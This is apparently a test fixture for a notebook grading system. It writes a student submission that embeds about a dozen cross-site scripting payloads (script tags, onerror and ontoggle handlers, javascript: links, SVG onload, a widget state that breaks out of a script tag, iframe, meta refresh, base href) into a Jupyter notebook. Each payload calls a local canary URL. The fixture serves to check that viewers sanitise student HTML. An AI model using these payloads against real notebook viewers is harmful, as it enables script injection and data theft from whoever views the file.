"""A submission that tries to run its own HTML in whoever views it (issue #13).

Built from bob's 01_training_cost notebook (a partial solution, 7 of 22 points). Every
payload tries two things a real attacker wants: run a script in the viewer's page (each
sets ``document.title`` to ``PWNED-<payload>``) and make the viewer's browser contact a URL
the student chose (``http://127.0.0.1:<canary port>/<payload>``, a server the test runs and
watches). Payloads: ``<script>``, ``onerror=``, a ``javascript:`` link, SVG with ``onload``
and ``<script>``, ``application/javascript``, a widget view and widget state carrying
``</script>``, markdown with raw HTML (output and an added markdown cell), a remote image,
a CSS ``url()``, an ``<iframe>``, a ``<meta http-equiv=refresh>`` and a ``<base href>``.
"""

from __future__ import annotations

import json
from pathlib import Path

AID = "01_training_cost"
STUDENT = "mallory"
ANSWER = "ex_training_flops"


def payloads(canary: str) -> dict:
    """``name -> HTML`` (canary: ``http://127.0.0.1:PORT``)."""
    def steal(name):
        return f"fetch('{canary}/{name}');document.title='PWNED-{name}'"

    return {
        "script": f"<script>{steal('script')}</script>",
        "onerror": f'<img src="x" onerror="{steal("onerror")}">',
        "jslink": f'<a id="jslink" href="javascript:{steal("jslink")}">open the chart</a>',
        "svg": (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{steal("svg")}">'
                f"<script>{steal('svgscript')}</script></svg>"),
        "remoteimg": f'<img src="{canary}/remoteimg" alt="remote">',
        "css": f'<div style="background:url({canary}/css)">styled</div>',
        "iframe": f'<iframe src="{canary}/iframe"></iframe>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        "base": f'<base href="{canary}/base/">',
        "details": f'<details open ontoggle="{steal("ontoggle")}"><summary>x</summary></details>',
    }


def cell_code(canary: str) -> str:
    """Code appended to the answer cell: every payload as a kernel output."""
    html = "".join(payloads(canary).values())
    js = f"fetch('{canary}/javascript');document.title='PWNED-javascript'"
    svg = payloads(canary)["svg"]
    widget_view = {"model_id": "evil", "version_major": 2, "version_minor": 0}
    widget_state = {"version_major": 2, "version_minor": 0, "state": {"evil": {
        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "state": {"value": f"</script><script>{js}</script>"}}}}
    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, display",
        f"display(HTML({html!r}))",
        f"display(SVG({svg!r}))",
        f"display(Javascript({js!r}))",
        f"display({{'application/javascript': {js!r}, 'text/plain': 'js'}}, raw=True)",
        "display({'application/vnd.jupyter.widget-view+json': " + repr(widget_view) +
        ", 'application/vnd.jupyter.widget-state+json': " + repr(widget_state) +
        f", 'text/html': {html!r}}}, raw=True)",
        f"display({{'text/markdown': {payloads(canary)['onerror']!r} + ' [click](javascript:"
        f"alert(1))'}}, raw=True)",
        "display({'image/png': " + repr(f'"><script>{js}</script>') + "}, raw=True)",
        "print('<script>document.title=\"PWNED-stdout\"</script>')",
    ])


def markdown_cell(canary: str) -> str:
    p = payloads(canary)
    return ("## My notes\n\n" + p["onerror"] + "\n\n" + p["script"] + "\n\n"
            f"[see my chart](javascript:fetch('{canary}/mdlink'))\n\n"
            f"![chart]({canary}/mdimg)\n")


def write(root: Path, canary: str, student: str = STUDENT) -> Path:
    """submitted/<student>/01_training_cost/01_training_cost.ipynb with every payload."""
    nb = json.loads((root / "samples" / "bob" / AID / f"{AID}.ipynb").read_text())
    cells = nb["cells"]
    for i, cell in enumerate(cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ANSWER:
            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = src + "\n\n" + cell_code(canary)
            cells.insert(i + 1, {"cell_type": "markdown", "id": "mallory-notes", "metadata": {},
                                 "source": markdown_cell(canary)})
            break
    else:
        raise KeyError(ANSWER)
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {}}}
    folder = root / "submitted" / student / AID
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{AID}.ipynb"
    path.write_text(json.dumps(nb, indent=1) + "\n")
    return path
